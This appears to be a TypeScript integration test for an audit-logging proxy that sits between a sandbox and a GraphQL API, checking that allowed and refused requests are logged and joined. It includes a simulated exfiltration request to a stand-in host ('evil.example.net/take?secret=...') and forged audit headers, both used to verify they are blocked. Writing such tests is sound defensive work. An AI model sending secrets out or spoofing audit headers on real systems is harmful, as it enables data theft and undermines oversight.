import { type ChildProcess, spawn } from "node:child_process";
import { once } from "node:events";
import { writeFileSync } from "node:fs";
import { request } from "node:http";
import { join } from "node:path";
import { text } from "node:stream/consumers";
import { afterAll, beforeAll, expect, it } from "vitest";
import { createDatabase, type TestDatabase } from "../support/postgres.js";
import { makePlace, startRelay, type RelayPlace, type RunningCommand } from "../support/relay.js";
import { startServer, type TestServer } from "../support/server.js";
import { until } from "../support/until.js";

let database: TestDatabase;
let api: TestServer;
let place: RelayPlace;
let relay: RunningCommand;
let boundary: ChildProcess;
let said = "";

beforeAll(async () => {
  database = await createDatabase();
  // The boundary's address, from where marks are believed.
  api = await startServer({ database, env: { TRUSTED_PROXIES: "127.0.0.1" } });
  place = makePlace();
  writeFileSync(place.tokenFile, await api.token({ subject: "gw-1", tenant: "acme", roles: ["reporter"] }));
  relay = await startRelay(place, api.url);
  const { host } = new URL(api.url);
  const program = join("dist", "test", "support", "forward-proxy.js");
  const args = ["--relay", place.socket, "--allow", host, "--mark", `${host}/graphql`];
  boundary = spawn(process.execPath, [program, ...args], { stdio: ["ignore", "pipe", "inherit"] });
  boundary.stdout?.setEncoding("utf8").on("data", (part: string) => (said += part));
  await until(() => said.startsWith("ready "), { what: "the boundary is ready", deadline: 10_000 });
});

afterAll(async () => {
  boundary.kill("SIGKILL");
  await relay.end("SIGKILL");
  await api.stop();
  await database.drop();
  place.remove();
});

/** What a sandbox does: each request goes to the boundary, with the whole URL. */
async function through(url: string, headers: Record<string, string>, body?: unknown) {
  const [, proxy = ""] = /^ready (\S+)/.exec(said) ?? [];
  const asked = request(proxy, { path: url, method: body === undefined ? "GET" : "POST", headers });
  asked.end(body === undefined ? undefined : JSON.stringify(body));
  const [response] = (await once(asked, "response")) as [import("node:http").IncomingMessage];
  return { status: response.statusCode, body: await text(response) };
}

const query = `query Joined($reporting: [ID!]) {
  auditLogs(filter: { action: [CREATE, REQUEST] }, first: 10) {
    nodes {
      action outcome eventType sessionId sequenceNumber
      actor { id } resource { type }
      correlation { sessionId sequenceNumber }
      reportedBy { id program version host }
      changes { field }
    }
  }
  auditSessions(filter: { kind: [REPORTER], sessionId: $reporting }, first: 10) {
    nodes { id program state expected received duplicates missing { count } dropped { reason } }
  }
}`;

interface Joined {
  readonly auditLogs: { readonly nodes: readonly Readonly<Record<string, unknown>>[] };
  readonly auditSessions: { readonly nodes: readonly Readonly<Record<string, unknown>>[] };
}

it("a request that passed the boundary stands in the log as both saw it, joined, and a refused one as the boundary did", async () => {
  const [, session = ""] = / session (\S+)/.exec(said) ?? [];
  const token = await api.token({ subject: "u-1", tenant: "acme", roles: ["admin"] });
  const smuggled = { "X-AUDIT-session-id": "01900000-0000-7000-8000-000000000000", "x-audit-sequence-number": "99" };
  const headers = { authorization: `Bearer ${token}`, "content-type": "application/json", ...smuggled };
  const mutation = 'mutation { createChat(input: { title: "From the sandbox" }) { id } }';
  const passed = await through(api.url, headers, { query: mutation });
  expect([passed.status, passed.body]).toEqual([200, expect.stringContaining('"createChat":{"id":')]);
  expect(await through("http://evil.example.net/take?secret=5a3c", {})).toEqual({
    status: 403,
    body: "refused by rule\n",
  });

  const auditor = await api.token({ subject: "a-1", tenant: "acme", roles: ["auditor"] });
  const look = async (): Promise<Joined> => {
    const { data, errors } = await api.request<Joined>(query, { token: auditor, variables: { reporting: [session] } });
    if (!data) throw new Error(JSON.stringify(errors));
    return data;
  };
  const what = "both sides are in the log";
  const both = await until(
    async () => {
      const found = await look();
      return found.auditLogs.nodes.filter(({ action }) => action === "REQUEST").length === 2 ? found : null;
    },
    { what, deadline: 10_000 },
  );
  const reportedBy = { id: "gw-1", program: "forward-proxy", version: "1.0.0", host: "boundary-1" };
  const of = (found: Joined, outcome: string, action: string) =>
    found.auditLogs.nodes.find((node) => node["outcome"] === outcome && node["action"] === action);
  expect(of(both, "SUCCESS", "CREATE")).toMatchObject({
    eventType: "chat.created",
    actor: { id: "u-1" },
    correlation: { sessionId: session, sequenceNumber: "0" },
    reportedBy: null,
  });
  expect(of(both, "SUCCESS", "REQUEST")).toMatchObject({
    resource: { type: "http_request" },
    sessionId: session,
    sequenceNumber: "0",
    correlation: null,
    reportedBy,
  });
  expect(of(both, "DENIED", "REQUEST")).toMatchObject({ sessionId: session, sequenceNumber: "1", reportedBy });
  expect(JSON.stringify(both)).not.toContain("5a3c");

  boundary.kill("SIGTERM");
  expect(await once(boundary, "exit")).toEqual([0, null]);
  expect(said).toContain('closed {"sent":2,"setAside":0,"lost":0,"kept":0,"isClosed":true}');
  const ended = await until(
    async () => {
      const found = await look();
      return found.auditSessions.nodes[0]?.["state"] === "CLOSED" ? found : null;
    },
    { what: "the boundary's session is closed", deadline: 10_000 },
  );
  expect(ended.auditSessions.nodes).toEqual([
    {
      id: session,
      program: "forward-proxy",
      state: "CLOSED",
      expected: "2",
      received: "2",
      duplicates: "0",
      missing: { count: "0" },
      dropped: [],
    },
  ]);
  expect(await relay.end("SIGTERM")).toEqual({ code: 0, signal: null });
  expect(relay.stderr()).not.toContain('"level":"error"');
  const [, own = ""] = /"sessionId":"([^"]+)"/.exec(relay.stderr()) ?? [];
  const { data } = await api.request<Joined>(query, { token: auditor, variables: { reporting: [own] } });
  expect(data?.auditSessions.nodes).toMatchObject([
    { program: "auditql-relay", state: "CLOSED", expected: "0", missing: { count: "0" }, dropped: [] },
  ]);
});
